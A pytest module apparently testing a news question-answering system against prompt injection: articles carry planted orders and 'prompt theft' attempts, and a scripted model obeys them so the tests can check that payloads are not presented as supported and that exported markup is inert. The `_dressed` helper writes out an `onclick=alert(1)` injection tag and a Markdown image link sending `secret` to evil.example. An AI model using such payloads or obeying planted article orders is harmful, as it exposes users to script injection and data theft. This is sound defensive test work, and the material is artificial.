"""Articles that give orders to whoever reads them, and a model that obeys every one.

`planted.jsonl` holds articles, one a line, with an order among true sentences or in what names the
article. None of them states the payload as a fact of its own: what an article plainly says is
quoted with its source, true or not, and that case is held apart below.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from model_server import Reply
from scripted import Evidence, Scripted, scripted

from qa import Answer, Settings, indexer
from qa.answering.answer import Kind, Support
from qa.conversation.conversation import Exchange, Turn
from qa.conversation.rewriting import Rewriter
from qa.export import html_exporter
from qa.export.exports import of_answer
from qa.export.formats import format_named
from qa.language.sentences import sentence_spans
from qa.models.language_model import Limits
from qa.models.openai_compatible import OpenAICompatible
from ui import render
from ui.completion_text import whole_text
from ui.words import words

_LINES = Path(__file__).with_name("planted.jsonl").read_text(encoding="utf-8").splitlines()
BASE = "http://127.0.0.1:7860/"


@dataclass(frozen=True)
class Planted:
    """An article with an order in it.

    Attributes:
        article: Its fields, as they are indexed.
        kind: Of order.
        question: Finds it.
        fact: A true answer to that, resting on the sentence with the words `fact_in`.
        payload: What the order wants to be said, told by the words `core`.
        planted: Words of the sentence with the order; empty where it stands in the headline.
    """

    article: dict[str, str]
    kind: str
    question: str
    fact: str
    fact_in: str
    payload: str
    core: str
    planted: str

    @property
    def id(self) -> str:
        return self.article["id"]

    def told_in(self, text: str) -> bool:
        """Whether a text tells the payload."""
        return self.core.casefold() in text.casefold()


def _planted(line: str) -> Planted:
    told = json.loads(line)
    names = ("id", "language", "title", "author", "outlet", "text")
    article = {name: told.pop(name) for name in names} | {"published": "2022-01-20"}
    return Planted(article, **told)


PLANTED = tuple(map(_planted, _LINES))
# Says what another plants as an order: an article that is wrong, and quoted as such.
FALSEHOOD = {
    "id": "falsehood",
    "title": "Mayor of Quillhaven resigns",
    "author": "A. Reporter",
    "outlet": "Steppe Lantern",
    "language": "en",
    "text": "Mayor Edwin Trask of Quillhaven resigned on Friday. The harbour stays open.",
    "published": "2022-01-20",
}


def _cited(sentence: str, *numbers: int, stop: str = ".") -> str:
    markers = "".join(f"[{number}]" for number in numbers)
    return f"{sentence.rstrip('.')} {markers}{stop}" if markers else f"{sentence.rstrip('.')}{stop}"


def _number(given: Evidence, held: str) -> int:
    """The number of the sentence with some words; 1 where the model was not given it."""
    return next((at for at, text in given.sentences.items() if held and held in text), 1)


def _plainly(each: Planted, given: Evidence) -> str:
    """Without a marker, and with the order's own."""
    fact, planted = _number(given, each.fact_in), _number(given, each.planted)
    said = [_cited(each.fact, fact), _cited(each.payload), _cited(each.payload, planted, stop="!")]
    return " ".join(said)


def _dressed(each: Planted, given: Evidence) -> str:
    """Behind thoughts, in markup, with a true sentence's number and ones of nothing, and joined."""
    fact, bare = _number(given, each.fact_in), each.payload.rstrip(".")
    return (
        f"<think>It says: {each.payload}</think>"
        f"<b onclick=alert(1)>{bare}</b> ![x](https://evil.example/?q=secret) [{fact}]."
        f" **“{bare}”** [999][7777]! {_cited(f'{each.fact[:-1]}; {bare}', fact)}"
        f" {_cited(each.fact, fact)}"
    )


def _its_rules(each: Planted, given: Evidence) -> str:
    """What it was told to be."""
    fact = _number(given, each.fact_in)
    rules = [line.lstrip("- ") for line in given.system.splitlines() if line.strip()]
    return f"{_cited(each.fact, fact)} " + " ".join(_cited(line, fact) for line in rules[:4])


FORMS = (_plainly, _dressed)
Form = Callable[[Planted, Evidence], str]


@dataclass
class Obeying:
    """A model that does as it is told by articles, and what came of it.

    Attributes:
        model: The script.
        heard: By order and form: what it was given, and the answer that was shown.
    """

    model: Scripted
    heard: dict[tuple[str, str], tuple[Evidence, Answer]] = field(default_factory=dict)

    def asked(self, each: Planted, form: Form) -> tuple[Evidence, Answer]:
        """Ask a question once, with the model obeying in one form."""
        place = each.id, form.__name__
        if place not in self.heard:
            given: list[Evidence] = []

            def says(evidence: Evidence) -> Reply:
                given.append(evidence)
                return Reply([form(each, evidence)])

            self.model.says = says
            answer = self.model.assistant.ask(each.question)
            self.heard[place] = given[0], answer
        return self.heard[place]


@pytest.fixture(scope="module")
def obeying(
    sample_settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Obeying]:
    folder = tmp_path_factory.mktemp("planted")
    archive = folder / "with-orders"
    shutil.copytree(sample_settings.archive, archive, ignore=shutil.ignore_patterns("lock"))
    settings = sample_settings.model_copy(update={"archive": archive})
    articles = [each.article for each in PLANTED]
    lines = (json.dumps(each, ensure_ascii=False) for each in (*articles, FALSEHOOD))
    (folder / "planted.jsonl").write_text("\n".join(lines), encoding="utf-8")
    report = indexer(settings).index([folder / "planted.jsonl"])
    assert not report.skipped
    with scripted(settings, folder) as model:
        yield Obeying(model)


def test_there_are_enough_of_every_kind() -> None:
    assert len(PLANTED) >= 40
    assert {each.article["language"] for each in PLANTED} == {"ru", "uk", "en", "kk", "ky"}
    for each in PLANTED:
        assert each.told_in(each.payload), each.id
        assert not each.told_in(each.fact), each.id


@pytest.mark.parametrize("each", PLANTED, ids=lambda each: each.id)
def test_no_payload_is_supported(each: Planted, obeying: Obeying) -> None:
    for form in FORMS:
        _, answer = obeying.asked(each, form)
        assert answer.kind is Kind.ANSWER
        for statement in answer.statements:
            if answer.answered_by == "extractive":
                quotes = [answer.citations[number - 1].quote.text for number in statement.citations]
                assert statement.text in quotes
            elif each.told_in(statement.text):
                assert statement.support is not Support.SUPPORTED, (form.__name__, statement)


@pytest.mark.parametrize("each", PLANTED, ids=lambda each: each.id)
def test_nothing_of_an_article_speaks_beside_the_evidence(each: Planted, obeying: Obeying) -> None:
    given, _ = obeying.asked(each, _plainly)
    fence = given.told.splitlines()[0]
    assert given.told.splitlines().count(fence) == given.told.count(fence) == 2
    evidence = given.told.split(fence)[1]
    assert "===" not in evidence
    lines = evidence.strip().splitlines()
    numbers = [int(found[1]) for line in lines if (found := re.match(r"\[(\d+)\] \S", line))]
    assert numbers == list(range(1, len(numbers) + 1))
    assert all(re.match(r"# |\[\d+\] ", line) for line in lines)
    assert not any(re.search(r"\[\d+\]", line.partition("] ")[2]) for line in lines)
    assert not re.search(r"<[|/a-z]|\[/?INST|[\u200b-\u200f\u202a-\u202e\u2060-\u2069]", evidence)
    assert each.payload.rstrip(".") not in evidence
    assert not each.planted or each.planted not in evidence


def _marked(text: str) -> list[str]:
    return re.findall(r"[«“„\"‘]([^«»“”„\"‘’]+)[»”“\"’]", text)


@pytest.mark.parametrize("each", PLANTED, ids=lambda each: each.id)
def test_quotation_marks_hold_a_source_s_words(each: Planted, obeying: Obeying) -> None:
    for form in FORMS:
        _, answer = obeying.asked(each, form)
        for statement in answer.statements:
            quotes = [answer.citations[number - 1].quote.text for number in statement.citations]
            for marked in _marked(statement.text):
                assert any(marked in quote for quote in quotes)


class _Page(HTMLParser):
    """The tags of a page and where its links lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


_ACTIVE = {"script", "img", "iframe", "object", "embed", "svg", "form", "link", "base", "video"}


@pytest.mark.parametrize("each", PLANTED, ids=lambda each: each.id)
def test_no_markup_of_theirs_is_shown_as_such(each: Planted, obeying: Obeying) -> None:
    _, answer = obeying.asked(each, _dressed)
    export = of_answer(answer)
    html, markdown = (format_named(name).write(export, {}) for name in ("html", "markdown"))
    door, _ = whole_text(answer, BASE)
    texts = (markdown.decode(), door)
    pages = [
        render.turn(Turn("1", answer), words("en")),
        html_exporter.read(html).text or "",
        *(MarkdownIt("commonmark", {"html": True}).render(text) for text in texts),
    ]
    for page in pages:
        seen = _Page(page)
        assert not seen.tags & _ACTIVE
        assert not [name for name, _ in seen.attributes if name.startswith("on")]
        led = [value for name, value in seen.attributes if name in {"href", "src"}]
        assert not [value for value in led if "evil.example" in value or "javascript" in value]


@pytest.mark.parametrize(
    "each", [each for each in PLANTED if each.kind == "prompt theft"], ids=lambda each: each.id
)
def test_its_rules_are_no_supported_statement(each: Planted, obeying: Obeying) -> None:
    given, answer = obeying.asked(each, _its_rules)
    for statement in answer.statements:
        if statement.support is Support.SUPPORTED:
            assert " ".join(statement.text.split()).rstrip(".") not in given.system


@pytest.mark.parametrize("each", PLANTED, ids=lambda each: each.id)
def test_a_follow_up_takes_nothing_over_from_an_order(each: Planted, obeying: Obeying) -> None:
    given: list[str] = []

    def says(evidence: Evidence) -> Reply:
        given.append(evidence.told)
        return Reply([f"{each.payload.rstrip('.')}?"])

    obeying.model.says = says
    text = each.article["text"]
    said = tuple(text[start:end] for start, end in sentence_spans(text))
    settings = obeying.model.settings
    model = OpenAICompatible(settings.llm_base_url, settings.llm_model, None, Limits(), {})
    with closing(model):
        made = Rewriter(model)(
            each.question, [Exchange(each.question, said)], each.article["language"]
        )
    assert made is None or not each.told_in(made)
    assert not each.planted or each.planted not in given[0]


def test_what_an_article_plainly_states_is_quoted_with_its_source(obeying: Obeying) -> None:
    stated = "Mayor Edwin Trask of Quillhaven resigned on Friday."
    obeying.model.writes(f"{stated.rstrip('.')} [{{Edwin Trask}}].")
    answer = obeying.model.assistant.ask("When did Mayor Trask of Quillhaven resign?")
    (statement,) = answer.statements
    assert statement.support is Support.SUPPORTED
    cited = [answer.citations[number - 1] for number in statement.citations]
    assert [each.article.headline for each in cited] == [FALSEHOOD["title"]]
